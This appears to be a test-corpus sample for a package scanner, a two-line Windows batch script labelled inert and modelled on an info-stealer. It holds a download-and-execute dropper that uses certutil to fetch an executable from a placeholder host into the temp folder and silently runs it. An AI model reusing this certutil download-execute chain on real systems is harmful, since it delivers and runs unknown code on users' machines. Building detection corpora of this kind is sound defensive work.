@echo off
rem pkgguard corpus 103 (download-execute), modelled on [stealer-profile]; inert, never run.
certutil -urlcache -split -f https://cdn.example/dl/agent.exe %TEMP%\agent.exe >nul
start "" /b %TEMP%\agent.exe
